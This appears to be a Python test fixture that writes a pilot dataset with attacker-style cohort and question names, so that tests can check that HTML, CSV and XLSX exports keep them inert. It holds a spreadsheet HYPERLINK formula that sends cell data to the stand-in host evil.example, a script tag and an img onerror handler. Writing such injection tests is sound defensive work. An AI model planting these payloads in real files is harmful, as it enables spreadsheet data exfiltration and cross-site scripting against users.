"""The hand-built pilot of tests/kpi_data.py, with names an attacker could upload.

Cohort P is called ``=HYPERLINK(...)`` (a spreadsheet formula), cohort C is called
``<script>…</script>`` and question q1's text is an HTML tag with an event handler: each must
stay inert text in HTML, CSV and XLSX.
"""

from __future__ import annotations

from pathlib import Path

from tests.kpi_data import write_pilot

FORMULA_COHORT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT_COHORT = "<script>alert('cohort')</script>"
TAG_QUESTION = "<img src=x onerror=alert('q1')> =1+1"


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def write_hostile_pilot(folder: Path) -> list[Path]:
    """Write the pilot with hostile cohort and question names; return files in import order."""
    paths = write_pilot(folder)
    by_name = {p.name: p for p in paths}
    roster = by_name["roster.csv"].read_text(encoding="utf-8")
    roster = roster.replace(",P,program", f",{_csv_field(FORMULA_COHORT)},program")
    roster = roster.replace(",C,comparison", f",{_csv_field(SCRIPT_COHORT)},comparison")
    by_name["roster.csv"].write_text(roster, encoding="utf-8")
    schedule = by_name["schedule.csv"].read_text(encoding="utf-8")
    by_name["schedule.csv"].write_text(schedule.replace("\nP,m1", f"\n{_csv_field(FORMULA_COHORT)},m1"),
                                       encoding="utf-8")
    questions = by_name["questions.csv"].read_text(encoding="utf-8")
    by_name["questions.csv"].write_text(questions.replace("Understands me", _csv_field(TAG_QUESTION)),
                                        encoding="utf-8")
    return paths
